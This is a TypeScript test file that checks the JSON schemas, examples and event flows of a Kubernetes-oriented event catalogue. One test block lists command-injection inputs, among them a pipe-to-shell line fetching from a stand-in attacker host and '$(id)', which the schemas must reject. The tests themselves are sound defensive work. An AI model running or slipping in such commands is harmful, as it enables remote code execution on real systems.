// The catalogue of events: every type of ours has a schema, an example that follows it, and a TypeScript type.

import { readdirSync, readFileSync } from 'node:fs'
import { Ajv2020 } from 'ajv/dist/2020.js'
import addFormats from 'ajv-formats'
import { describe, expect, it } from 'vitest'
import { ANY, FLOWS, isOurType, schemaAddress, TYPE } from '../../../shared/events/contract.ts'

const FOLDER = new URL('../../../shared/events/', import.meta.url)
const ours = Object.values(TYPE).filter(isOurType)
/** What services and people say. */
const OUTSIDE: readonly string[] = [TYPE.analysisCompleted, TYPE.approvalGranted, TYPE.approvalRefused]
const fileOf = (type: string): string => `${type.slice('io.kubernaut.'.length)}.json`

function read(folder: 'schemas' | 'examples', type: string): Record<string, unknown> {
  return JSON.parse(readFileSync(new URL(`${folder}/${fileOf(type)}`, FOLDER), 'utf8'))
}

function validatorOf(type: string) {
  const ajv = new Ajv2020({ allErrors: true, strict: true, strictRequired: false, allowUnionTypes: true })
  addFormats.default(ajv)
  return ajv.compile(read('schemas', type))
}

describe.each(ours)('%s', type => {
  it('is named as events are: reverse DNS, lower case, with a version', () => {
    expect(type).toMatch(/^io\.kubernaut\.[a-z]+\.[a-z]+\.v\d+$/)
  })

  it('has a schema that says so, where `dataschema` points', () => {
    expect(read('schemas', type)).toMatchObject({
      $schema: 'https://json-schema.org/draft/2020-12/schema',
      $id: schemaAddress(type),
      title: type,
      description: expect.stringMatching(/\S/),
    })
  })

  it('has an example that follows its schema', () => {
    const validate = validatorOf(type)
    validate(read('examples', type))
    expect(validate.errors).toBeNull()
  })

  it('has a schema by which not everything passes', () => {
    expect(validatorOf(type)(17)).toBe(false)
  })

  it('requires every member that its schema says is required', () => {
    const validate = validatorOf(type)
    const example = read('examples', type)
    const { required = [] } = read('schemas', type)
    for (const name of required as string[]) {
      const { [name]: _, ...rest } = example
      expect([name, validate(rest)]).toEqual([name, false])
    }
  })
})

describe('the folder', () => {
  it.each(['schemas', 'examples'] as const)('%s has a file for each of our types and no other', folder => {
    expect(readdirSync(new URL(folder, FOLDER)).sort()).toEqual(ours.map(fileOf).sort())
  })
})

describe('what is copied into a command for people', () => {
  const BAD = ['a; curl evil.example | sh', 'a b', '$(id)', '../x', 'A', '-n', '', 'x'.repeat(64)]
  const commands = [
    [TYPE.approvalRequested, 'run', 'namespace'],
    [TYPE.approvalRequested, 'run', 'name'],
    [TYPE.playbookRejected, 'playbook', 'namespace'],
  ] as const
  it.each(commands)('%s: %s.%s is a name and nothing else', (type, object, field) => {
    const validate = validatorOf(type)
    const example = read('examples', type)
    for (const value of BAD)
      expect([
        value,
        validate({ ...example, [object]: { ...Object(example[object]), [field]: value } }),
      ]).toEqual([value, false])
  })

  it('a playbook is named as Kubernetes names objects', () => {
    const validate = validatorOf(TYPE.playbookRejected)
    const example = read('examples', TYPE.playbookRejected)
    const named = (name: string) => validate({ ...example, playbook: { namespace: 'a', name } })
    for (const bad of ['a; id', '$(id)', '-a', 'A', 'a..b', 'x'.repeat(254)])
      expect([bad, named(bad)]).toEqual([bad, false])
    for (const good of ['a', 'a-b', 'a.b-c.d', 'x'.repeat(253)])
      expect([good, named(good)]).toEqual([good, true])
  })
})

describe('the flows', () => {
  const flows = Object.entries(FLOWS)
  const known: readonly string[] = Object.values(TYPE)

  it.each(flows)('%s takes and replies what the catalogue knows', (_, { takes, replies }) => {
    for (const type of takes)
      expect(
        type === ANY || known.some(each => each === type || (type.endsWith('.') && each.startsWith(type))),
      ).toBe(true)
    for (const type of replies) expect(ours).toContain(type)
  })

  it.each(flows)('%s never replies what wakes it', (_, { takes, replies }) => {
    const wakes = (type: string) =>
      takes.some(each => each === type || (each.endsWith('.') && type.startsWith(each)))
    expect(replies.filter(wakes)).toEqual([])
  })

  it('never lead in a circle: every chain of replies ends', () => {
    const next = (type: string): readonly string[] =>
      flows.filter(([, { takes }]) => takes.some(each => each === type)).flatMap(([, { replies }]) => replies)
    const walk = (type: string, path: readonly string[]): void => {
      expect(path).not.toContain(type)
      for (const reply of next(type)) walk(reply, [...path, type])
    }
    for (const type of known) walk(type, [])
  })

  it('every type of ours is sent by one function, what comes from outside by none', () => {
    const senders = ours.map(type => [
      type,
      flows.filter(([, { replies }]) => replies.some(each => each === type)).length,
    ])
    expect(Object.fromEntries(senders)).toEqual(
      Object.fromEntries(ours.map(type => [type, OUTSIDE.includes(type) ? 0 : 1])),
    )
  })
})
